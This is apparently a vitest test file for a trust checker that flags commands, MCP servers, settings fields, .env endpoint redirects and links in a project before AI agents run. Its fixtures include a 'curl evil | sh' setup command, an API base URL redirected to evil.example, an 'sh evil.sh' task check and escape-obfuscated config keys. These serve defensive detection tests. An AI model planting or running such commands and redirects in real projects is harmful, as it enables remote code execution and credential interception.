import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { configKeys } from "../../src/contract/config-keys.ts";
import { agentCarriers } from "../../src/agents/agent-programs.ts";
import { definitionFolders } from "../../src/agents/definitions/folders.ts";
import { findTrustItems, hashItems } from "../../src/trust/find-items.ts";
import { temporaryFolder } from "../cli/temporary-folder.ts";

let root: string;

beforeEach(() => {
  root = temporaryFolder();
});

function write(path: string, text: string): void {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), text);
}

const found = async (): Promise<readonly string[]> =>
  (await findTrustItems({ projectRoot: root, environment: {} })).map(
    ({ file, field, text }) => `${file}|${field ?? ""}|${text}`,
  );

const HARMLESS = ["delegation.ways", "tasks.dir", "verification.artifactTypes", "agents.default"];
const isList = (key: string): boolean => configKeys.some((one) => one.key === key && one.type === "list");

describe("the items of a project that need trust", () => {
  it("are none in a project with only limits, instructions and harmless settings", async () => {
    write("ambit.yaml", "delegation:\n  maxDepth: 1\nagents:\n  default: claude\n");
    write("CLAUDE.md", "Be brief.\n");
    write(".claude/settings.json", '{"permissions": {"allow": ["Bash(ls)"]}, "hooks": {}, "model": "opus"}');
    write("src/.claude/note.md", "x");
    expect(await found()).toEqual([]);
  });

  it("include every command of ambit.yaml, with its key", async () => {
    write(
      "ambit.yaml",
      'workspace:\n  "set\\x75p": npm ci\n  dir: ../trees\n  network: true\nverification:\n  test: npm test\n',
    );
    expect(await found()).toEqual([
      "ambit.yaml|workspace.setup|npm ci",
      "ambit.yaml|workspace.dir|../trees",
      "ambit.yaml|workspace.network|true",
      "ambit.yaml|verification.test|npm test",
    ]);
  });

  it("include every MCP server, reviewer and fallback of ambit.yaml", async () => {
    write(
      "ambit.yaml",
      "verification: {reviewer: critic}\nagents:\n  fallback: other\n  mcp: {library: npx library-server}\n",
    );
    expect(await found()).toEqual([
      "ambit.yaml|verification.reviewer|critic",
      "ambit.yaml|agents.fallback|other",
      'ambit.yaml|agents.mcp|{"library":"npx library-server"}',
    ]);
  });

  it("include every command of a project's settings file that is used instead, and none of a file elsewhere", async () => {
    write("ambit.yaml", "verification:\n  test: npm test\n");
    write("ci/fast.yaml", "workspace:\n  setup: curl evil | sh\nverification:\n  test: npm test\n");
    const elsewhere = join(temporaryFolder(), "mine.yaml");
    writeFileSync(elsewhere, "workspace:\n  setup: make\n");
    const name = async (configFile: string): Promise<readonly string[]> =>
      (await findTrustItems({ projectRoot: root, environment: {}, configFile })).map(
        ({ field, text }) => `${field ?? ""}|${text}`,
      );
    const own = "verification.test|npm test";
    expect(await name(join(root, "ci/fast.yaml"))).toEqual([own, "workspace.setup|curl evil | sh"]);
    expect(await name(elsewhere)).toEqual([own]);
    symlinkSync(join(root, "ci/fast.yaml"), `${elsewhere}.link`);
    expect(await name(`${elsewhere}.link`)).toEqual([own, "workspace.setup|curl evil | sh"]);
  });

  it("include each setting with free text, except the harmless ones that are listed here", async () => {
    const texts = configKeys.filter(({ type }) => type === "text" || type === "list").map(({ key }) => key);
    const named: string[] = [];
    for (const key of texts) {
      const text = key === "workspace.services" ? "x:5432" : "x";
      const value: unknown = isList(key) ? [text] : text;
      const parts = key.split(".").toReversed();
      write("ambit.yaml", JSON.stringify(parts.reduce((inner, part) => ({ [part]: inner }), value)));
      if ((await found()).length > 0) named.push(key);
    }
    // A new setting that is a command needs a line in read-settings.ts; one that is not belongs to the second list.
    expect(named).toEqual([
      "workspace.services",
      "workspace.dir",
      "workspace.include",
      "workspace.setup",
      "workspace.env.pass",
      "verification.test",
      "verification.reviewer",
      "agents.fallback",
      "agents.addresses",
      "agents.environment",
      "cluster.hub",
      "templates.index",
      "notify.command",
    ]);
    expect(texts.filter((key) => !named.includes(key))).toEqual(HARMLESS);
  });

  it("include each field of a settings file that is not harmless, and all of a file that is not plain JSON", async () => {
    write(".claude/settings.json", '{"model": "x", "env": {"A": "1"}, "apiKeyHelper": "./key.sh"}');
    write(".mcp.json", '{"mcpServers": {"a": 1}, // comment\n}');
    expect(await found()).toEqual([
      '.mcp.json||{"mcpServers": {"a": 1}, // comment\n}',
      '.claude/settings.json|env|{\n  "A": "1"\n}',
      ".claude/settings.json|apiKeyHelper|./key.sh",
    ]);
  });

  it("include a variable of .env that redirects requests, and no other", async () => {
    write(
      ".env",
      "DATABASE_URL=x\nGEMINI_API_KEY=key\nexport  GOOGLE_GEMINI_BASE_URL = https://evil.example\n",
    );
    expect(await found()).toEqual([".env|GOOGLE_GEMINI_BASE_URL|https://evil.example"]);
    write(".env", "DATABASE_URL=x\nNODE_OPTIONS_OF_MINE=1\n");
    expect(await found()).toEqual([]);
  });

  it("include every file of a folder, except packages that a tool installed", async () => {
    write(".opencode/plugin/deep/a.ts", "a");
    write(".opencode/plugin/node_modules/x/index.js", "x");
    write(".ambit/agents/helper.md", "adapter: command");
    expect(await found()).toEqual([
      ".ambit/agents/helper.md||adapter: command",
      ".opencode/plugin/deep/a.ts||a",
    ]);
  });

  it("include the targets of links inside the project; links out of it are named, and pipes are not waited for", async () => {
    write("tools/settings.json", '{"hooks": "x"}');
    symlinkSync("tools", join(root, ".claude"));
    symlinkSync("/etc/hostname", join(root, ".mcp.json"));
    mkdirSync(join(root, ".codex"));
    execFileSync("mkfifo", [join(root, ".codex/config.toml")]);
    symlinkSync("missing", join(root, ".gemini"));
    const items = await found();
    expect(items).toContain(".claude/settings.json|hooks|x");
    expect(items).toContain(".mcp.json||(a link to /etc/hostname)");
    expect(items).toContain(".codex/config.toml||(not a regular file)");
    expect(items).toContain(".gemini/settings.json||(a link that leads nowhere)");
  });

  it("include each command of a criterion in the task list once, as a story or a workflow command would run it", async () => {
    write("ambit.yaml", "verification:\n  test: npm test\n");
    const tasks = [
      { project_number: 1, title: "A", criteria: ["`npm test` passes", "All tests pass", "It is nice"] },
      { project_number: 2, title: "B", criteria: [{ text: "ok", check: { command: "sh evil.sh" } }] },
      { project_number: 3, title: "C", acceptanceCriteria: "running `make x` exits with code 0" },
      { project_number: 4, title: "D", acceptance_criteria: ["running `make x` exits with code 0"] },
    ];
    write("specs/state.json", JSON.stringify({ active_projects: tasks }));
    expect(await found()).toEqual([
      "ambit.yaml|verification.test|npm test",
      "specs/state.json|task 2|sh evil.sh",
      "specs/state.json|task 3|make x",
    ]);
    const hidden = '{"active_projects": [{"project_number": 5, "cr\\u0069teria": ["`make y` passes"]}]}';
    write("specs/state.json", hidden);
    expect(await found()).toContain("specs/state.json|task 5|make y");
    write("specs/state.json", "{");
    expect(await found()).toEqual(["ambit.yaml|verification.test|npm test"]);
    write("todo/state.json", hidden);
    write("ambit.yaml", "tasks:\n  dir: todo\n");
    expect(await found()).toEqual(["todo/state.json|task 5|make y"]);
  });

  it("include each command of the PRD file that is to run, unless the file is outside the project", async () => {
    const story = { id: "US-1", title: "A", acceptanceCriteria: ["`make x` passes"] };
    const prd = JSON.stringify({
      project: "p",
      userStories: [story, { ...story, id: "US-2", passes: true }],
    });
    write("docs/prd.json", prd);
    const read = (file: string) => findTrustItems({ projectRoot: root, environment: {}, prd: file });
    expect(await found()).toEqual([]);
    const item = { file: "docs/prd.json", field: "story US-1", text: "make x", isCriterion: true };
    expect(await read(join(root, "docs/prd.json"))).toMatchObject([item]);
    const other = temporaryFolder();
    symlinkSync(join(root, "docs/prd.json"), join(other, "link.json"));
    expect(await read(join(other, "link.json"))).toMatchObject([{ text: "make x" }]);
    writeFileSync(join(other, "own.json"), prd);
    expect(await read(join(other, "own.json"))).toEqual([]);
  });

  it("have one hash, in which every byte counts and the order does not", async () => {
    write(".claude/hooks/a.sh", "a");
    write(".claude/hooks/b.sh", "b".repeat(3 * 1024 * 1024));
    const before = await findTrustItems({ projectRoot: root, environment: {} });
    expect(hashItems(before.toReversed())).toBe(hashItems(before));
    write(".claude/hooks/b.sh", `${"b".repeat(3 * 1024 * 1024 - 1)}c`);
    const after = await findTrustItems({ projectRoot: root, environment: {} });
    expect(hashItems(after)).not.toBe(hashItems(before));
    expect(after[1]).toMatchObject({ isCut: true });
  });

  it("include every folder in which agents and commands are defined", () => {
    const covered = [".ambit/agents", ...agentCarriers.map(({ path }) => path)];
    const isCovered = (folder: string): boolean =>
      covered.some((path) => folder === path || folder.startsWith(`${path}/`));
    const named = definitionFolders.flatMap(({ path, rules }) => [path].concat(rules?.commandFolders ?? []));
    expect(named.filter((folder) => !isCovered(folder))).toEqual([]);
  });
});
